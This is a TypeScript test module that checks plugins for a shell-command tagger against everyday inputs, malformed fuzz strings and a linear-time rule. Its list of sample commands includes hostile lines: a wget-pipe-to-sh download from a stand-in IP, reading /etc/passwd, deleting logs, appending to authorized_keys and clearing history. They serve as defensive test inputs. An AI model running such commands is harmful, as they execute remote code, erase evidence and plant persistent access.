import { isDeepStrictEqual } from 'node:util';
import type { JsonObject } from '../../model/envelope.ts';
import type { TaggerEvent } from '../../model/tag.ts';
import type { Plugin } from '../../plugin/plugin.ts';
import { fail, list } from '../assertions.ts';
import { liftAll, type LiftRun } from '../lift-run.ts';
import type { RunPluginOptions } from '../open-plugin.ts';
import { commandEvent, taggerEvent } from '../tagger-event.ts';
import type { ConformanceCheck } from './conformance-check.ts';
import { processorMs, slowerThanLinear } from './linear-time.ts';

/** Commands as they come every day. */
const EVERYDAY = [
  ...['uname -a', 'cat /etc/passwd', 'wget http://192.0.2.7/x.sh -O- | sh', 'chmod 777 x', 'id; w'],
  ...['crontab -l', 'rm -rf /var/log/*', 'echo "a" >> ~/.ssh/authorized_keys', 'history -c', 'ls'],
];

/** Commands that harm whoever takes them for harmless. */
const HOSTILE = [
  ...['', ' ', '\0', '\udcff\udcfe', '\ud800', '__proto__', '$(', '"', "'", '`', '\\', '((((('],
  ...['a'.repeat(100_000), '('.repeat(100_000), '$('.repeat(50_000), ';'.repeat(100_000)],
  ...["'\\''".repeat(25_000), '\x1b['.repeat(50_000), 'a|'.repeat(50_000), '🙂'.repeat(30_000)],
];

/** Ways in which a command can be long: each is repeated up to a length. */
const GROWING = ['a', 'ls -la /tmp; ', 'x | ', '(', '"$', '../', ' '];

/** What a plugin with lifters is checked for. */
export function lifterChecks(
  plugin: Plugin,
  options: RunPluginOptions,
  own: readonly TaggerEvent[],
): readonly ConformanceCheck[] {
  const everyday = [...EVERYDAY.map((command) => commandEvent(command, command)), ...own];
  const lift = (events: readonly TaggerEvent[]): Promise<LiftRun> =>
    liftAll(plugin, events, options);
  return [
    {
      name: 'gives only tags that are whole, and no faults',
      run: async () => noFaults(await lift(everyday), 'everyday events'),
    },
    {
      name: 'tags something of its own events',
      async run() {
        if (own.length === 0 || (await lift(own)).tags.length > 0) return;
        fail('it tagged none of the events that were given', 0, 'at least one');
      },
    },
    {
      name: 'tags the same for the same events, in whatever order',
      async run() {
        const first = sorted(await lift(everyday));
        const again = sorted(await lift(everyday.toReversed()));
        if (!isDeepStrictEqual(again, first)) fail('another order gave other tags', again, first);
      },
    },
    { name: 'survives hostile events', run: () => survives(plugin, options) },
    {
      name: 'takes time in proportion to a command',
      async run() {
        for (const piece of GROWING) {
          const wrong = await slowerThanLinear((size) => {
            const event = commandEvent(piece.repeat(Math.ceil(size / piece.length)));
            return processorMs(() => lift([event]));
          });
          if (wrong !== null) fail(`with many ${JSON.stringify(piece)}: ${wrong}`);
        }
      },
    },
  ];
}

async function survives(plugin: Plugin, options: RunPluginOptions): Promise<void> {
  for (const text of HOSTILE) {
    const what = `the command ${JSON.stringify(text.slice(0, 20))}…`;
    noFaults(await liftAll(plugin, [commandEvent(text)], options), what);
  }
  const kinds = new Set((plugin.lifters ?? []).flatMap(({ handles }) => handles));
  const payloads: readonly JsonObject[] = [
    {},
    { command_text: 1 },
    { command_text: null },
    { command_text: ['x'] },
    { a: [[]] },
  ];
  for (const kind of kinds) {
    const events = payloads.map((payload, i) => taggerEvent(kind, payload, `odd-${i}`));
    noFaults(await liftAll(plugin, events, options), `${kind} events with odd fields`);
  }
}

function noFaults({ faults }: LiftRun, what: string): void {
  if (faults.length > 0) fail(`on ${what}:\n${list(faults)}`, faults.length, 0);
}

function sorted({ tags }: LiftRun): LiftRun['tags'] {
  return tags.toSorted((one, other) => (one.uuid < other.uuid ? -1 : 1));
}
